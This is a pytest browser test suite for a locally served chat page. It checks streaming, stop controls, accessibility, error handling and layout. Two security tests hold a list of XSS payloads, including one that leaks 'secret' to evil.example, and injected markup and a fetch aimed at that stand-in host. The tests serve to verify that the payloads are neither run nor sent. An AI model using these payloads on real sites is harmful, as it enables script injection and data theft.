"""The chat page of `edge serve` in a real browser: what a user sees, does, and is spared.

`--pictures docs` keeps the two screenshots of the README.
"""

import json
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from browser import Browser, Page, needed
from support import environment

pytest.importorskip("fastapi")

CHROMIUM = needed()

STORY = "Tell me a story about Marla."
IDLE = "document.querySelector('#send').dataset.does === 'send'"
LAST = "[...document.querySelectorAll('.assistant p')].at(-1).textContent"


class Server:
    """`edge serve` of the packaged model, as a user starts it."""

    def __init__(self, home: Path, *args: str) -> None:
        command = [sys.executable, "-m", "edge", "serve", "--port", "0", *args]
        env = {**environment(), "EDGE_HOME": str(home)}
        self.process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env=env)
        assert self.process.stderr is not None
        said = []
        for line in self.process.stderr:
            said.append(line)
            if "serving" in line:
                break
        self.url = "".join(said).split()[-1]
        assert self.url.startswith("http://127.0.0.1:"), said

    def stop(self) -> None:
        self.process.send_signal(signal.SIGINT)
        assert self.process.wait(60) == 0


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the packaged model is converted, once."""
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def url(home: Path) -> Iterator[str]:
    server = Server(home)
    yield server.url
    server.stop()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    process = Browser(CHROMIUM, tmp_path_factory.mktemp("profile"))
    yield process
    process.close()


@pytest.fixture
def page(browser: Browser, url: str) -> Iterator[Page]:
    tab = Page(browser)
    tab.open(url + "/")
    tab.wait("document.querySelector('#model').textContent")
    yield tab
    assert tab.events("Runtime.exceptionThrown") == []
    wrong = [
        e["entry"]["text"] for e in tab.events("Log.entryAdded") if e["entry"]["level"] == "error"
    ]
    assert [text for text in wrong if "status of" not in text] == [], (
        "a refused request is said, too"
    )
    tab.close()


def say(page: Page, text: str) -> str:
    """Type a message, send it, wait for the answer."""
    page.value("document.querySelector('#box').focus()")
    page.type(text)
    page.press("Enter")
    page.wait("document.querySelector('.assistant')")
    page.wait(IDLE)
    return str(page.value(LAST))


def streamed(*pieces: str, end: str = "stop") -> str:
    """A server's answer of these pieces."""
    texts = [{"choices": [{"delta": {"content": piece}}]} for piece in pieces]
    events = [*texts, {"choices": [{"delta": {}, "finish_reason": end}]}]
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events) + "data: [DONE]\n\n"


def test_the_page_says_whom_it_serves(page: Page) -> None:
    assert page.value("document.title") == "edge-stories · edge"
    assert page.value("document.querySelector('#model').textContent") == "edge-stories"
    assert "runs on this machine" in page.value("document.body.innerText")
    assert page.value("document.activeElement.id") == "box", "one may type at once"
    assert page.value("document.querySelector('#add').hidden"), "it sees no pictures"


def test_text_streams_in(page: Page) -> None:
    """It is seen to grow: the page itself counts how often."""
    page.value(
        "window.grown = 0; new MutationObserver(() => window.grown++)"
        ".observe(document.querySelector('#log'), { subtree: true, childList: true })"
    )
    text = say(page, STORY)
    assert "Marla" in text
    assert len(text) > 100
    assert page.value("window.grown") > 10
    assert page.value("document.querySelector('.user p').textContent") == STORY
    assert not page.value("document.querySelector('.writing')")


def test_a_second_turn_knows_the_first(page: Page) -> None:
    say(page, "Marla had a red kite. Tomtin had a blue drum. What did Tomtin have?")
    say(page, "What did Marla have?")
    sent = [
        json.loads(event["request"]["postData"])["messages"]
        for event in page.events("Network.requestWillBeSent")
        if event["request"]["method"] == "POST"
    ]
    assert [message["role"] for message in sent[-1]] == ["user", "assistant", "user"]
    assert sent[-1][:1] == sent[0]
    assert "kite" in page.value(LAST)


def slow_down(page: Page, bytes_a_second: int) -> None:
    """A line so slow that a person has time to press a button; -1 for the real one."""
    page.call(
        "Network.emulateNetworkConditions",
        offline=False, latency=0, downloadThroughput=bytes_a_second, uploadThroughput=-1,
    )  # fmt: skip


def test_stop_stops(page: Page) -> None:
    slow_down(page, 4000)
    page.value("document.querySelector('#box').focus()")
    page.type(STORY)
    page.press("Enter")
    page.wait("document.querySelector('.assistant p')?.textContent.length > 5")
    assert page.value("document.querySelector('#send').getAttribute('aria-label')") == "Stop"
    page.click("#send")
    page.wait(IDLE)
    slow_down(page, -1)
    short = page.value(LAST)
    assert "Stopped." in page.value("document.querySelector('.assistant').innerText")
    assert len(short) < len(say(page, STORY)), "and the server answers the next"


def test_escape_stops_too(page: Page) -> None:
    slow_down(page, 4000)
    page.type(STORY)
    page.press("Enter")
    page.wait("document.querySelector('.assistant p')?.textContent")
    page.press("Escape")
    page.wait(IDLE)
    assert "Stopped." in page.value("document.body.innerText")


def test_by_keyboard_alone(page: Page) -> None:
    page.type("Tell me")
    page.press("Enter", shift=True)
    assert page.value("document.querySelector('#box').value") == "Tell me\n"
    page.type("a story.")
    page.press("Tab")
    assert page.value("document.activeElement.id") == "send"
    page.press("Enter")
    page.wait("document.querySelector('.assistant p')?.textContent")
    page.wait(IDLE)
    assert page.value("document.querySelector('.user p').textContent") == "Tell me\na story."
    assert page.value("document.activeElement.id") == "box"


def test_an_idea_and_a_new_chat(page: Page) -> None:
    page.click("#ideas button")
    page.wait("document.querySelector('.assistant p')?.textContent")
    page.wait(IDLE)
    assert page.value("document.querySelector('#welcome').hidden")
    page.click("#anew")
    assert page.value("document.querySelectorAll('.turn').length") == 0
    assert not page.value("document.querySelector('#welcome').hidden")
    say(page, STORY)
    last = page.events("Network.requestWillBeSent")[-1]["request"]["postData"]
    assert len(json.loads(last)["messages"]) == 1, "what was said before is forgotten"


def test_everything_has_a_name(page: Page) -> None:
    """What a screen reader says of whatever can be focused."""
    page.call("Accessibility.enable")
    say(page, "Tell me a story.")
    nodes = page.call("Accessibility.getFullAXTree")["nodes"]
    roles = {"button", "textbox", "log"}
    found = [n for n in nodes if n.get("role", {}).get("value") in roles and not n.get("ignored")]
    assert len(found) >= 4
    assert all(node["name"]["value"] for node in found), found
    log = "document.querySelector('#log')"
    assert (
        page.value(f"{log}.getAttribute('aria-live') + {log}.getAttribute('aria-busy')")
        == "politefalse"
    )
    assert page.value("document.documentElement.lang") == "en"


ATTACKS = [
    "<script>window.evil = 1</script>",
    "<img src=x onerror='window.evil = 1'>",
    "<svg onload='window.evil = 1'><a href='javascript:window.evil=1'>x</a>",
    "</p></div><iframe srcdoc='<script>parent.evil = 1</script>'></iframe>",
    "[x](javascript:window.evil=1) ![x](https://evil.example/?q=secret)",
]


def test_an_answer_is_text_and_nothing_else(page: Page) -> None:
    """What a model writes may be what a stranger wants: it is neither run nor fetched."""
    whole = "".join(ATTACKS)
    page.answer_with(
        "*/v1/chat/completions", streamed(*(whole[i : i + 7] for i in range(0, len(whole), 7)))
    )
    assert say(page, "<b onclick='window.evil = 1'>hello</b>") == whole
    assert page.value("window.evil") is None
    inside = "document.querySelectorAll('#log :not(div, p, span)').length"
    assert page.value(inside) == 0
    assert page.value("document.querySelector('.user p').textContent").startswith("<b onclick")


def test_no_other_script_may_run(page: Page) -> None:
    """If markup ever got in, the policy would still keep it from running and from asking elsewhere."""
    page.value(
        "document.body.insertAdjacentHTML('beforeend', `<img src='https://evil.example/x' onerror='window.evil = 1'>"
        "<iframe src='https://evil.example/'></iframe>`); const made = document.createElement('script');"
        "made.textContent = 'window.evil = 1'; document.body.append(made)"
    )
    refused = (
        "fetch('https://evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')"
    )
    assert page.value(refused) == "refused"
    assert page.value("window.evil") is None
    texts = " ".join(event["entry"]["text"] for event in page.events("Log.entryAdded"))
    assert "Content Security Policy" in texts
    page._browser.events.clear()  # they were wanted


def test_nothing_is_asked_of_anybody_else(page: Page, url: str) -> None:
    say(page, STORY)
    asked = {event["request"]["url"] for event in page.events("Network.requestWillBeSent")}
    assert asked
    assert all(address.startswith((url, "data:")) for address in asked), asked


def test_what_the_server_refuses_is_said(page: Page) -> None:
    """A real refusal: more text than the model has context."""
    long = "Marla had a red kite. " * 2000
    page.value(f"document.querySelector('#box').value = {json.dumps(long)}")
    page.press("Enter")
    page.wait("document.querySelector('[role=alert]')")
    assert "fit" in page.value("document.querySelector('[role=alert]').innerText")
    assert page.value(IDLE)
    assert "Marla" in say(page, STORY), "and what failed is not part of the conversation"


@pytest.mark.parametrize(
    ("body", "status", "kind", "said"),
    [
        ("the server is broken", 500, "text/plain", "The server answered 500"),
        (
            '{"error": {"message": "<b>too many requests wait</b>"}}',
            503,
            "application/json",
            "<b>too many",
        ),
        (streamed("half")[:-20], 200, "text/event-stream", "cut off"),
        ("data: nonsense\n\n", 200, "text/event-stream", "JSON"),
        ('data: {"error": {"message": "it fails"}}\n\n', 200, "text/event-stream", "it fails"),
    ],
)
def test_a_server_that_fails_is_said(
    page: Page, body: str, status: int, kind: str, said: str
) -> None:
    page.answer_with("*/v1/chat/completions", body, status=status, kind=kind)
    page.type(STORY)
    page.press("Enter")
    page.wait("document.querySelector('[role=alert]')")
    page.wait(IDLE)
    assert said in page.value("document.querySelector('[role=alert] span').textContent")
    page.call("Fetch.disable")
    page.click("[role=alert] button")
    page.wait("document.querySelector('.assistant p')?.textContent")
    page.wait(IDLE)
    assert "Marla" in page.value(LAST), "a second try is answered"
    assert page.value("document.querySelectorAll('.user').length") == 1


def test_an_answer_that_was_cut_off_says_so(page: Page) -> None:
    page.answer_with("*/v1/chat/completions", streamed("half of", end="length"))
    assert say(page, STORY) == "half of"
    assert "Cut off" in page.value("document.querySelector('.assistant').innerText")


def test_a_key_is_asked_for_once(browser: Browser, home: Path) -> None:
    server = Server(home, "--key", "of mine")
    tab = Page(browser)
    tab.open(server.url + "/")
    tab.wait("document.querySelector('#locked').open")
    tab.type("wrong")
    tab.press("Enter")
    tab.wait("document.querySelector('#locked').open && !document.querySelector('#key').value")
    tab.type("of mine")
    tab.press("Enter")
    tab.wait("document.querySelector('#model').textContent === 'edge-stories'")
    assert "Marla" in say(tab, STORY)
    assert not tab.value("document.querySelector('#locked').open")
    tab.close()
    server.stop()


@pytest.mark.parametrize(("name", "width", "height"), [("desktop", 1000, 640), ("phone", 390, 700)])
def test_it_looks_as_it_should(
    browser: Browser, url: str, pytestconfig: pytest.Config, name: str, width: int, height: int
) -> None:
    """Nothing overflows, and the message box is in view; --pictures keeps what it looks like."""
    tab = Page(browser, width=width, height=height, dark=name == "phone")
    tab.open(url + "/")
    say(tab, STORY)
    say(tab, "Where did Marla live?")
    tab.type("What happened one day?")
    assert tab.value("document.documentElement.scrollWidth <= innerWidth")
    assert tab.value("document.querySelector('#say').getBoundingClientRect().bottom < innerHeight")
    folder: Path | None = pytestconfig.getoption("--pictures")
    if folder is not None:
        tab.picture(folder / f"page-{name}.png")
    tab.close()
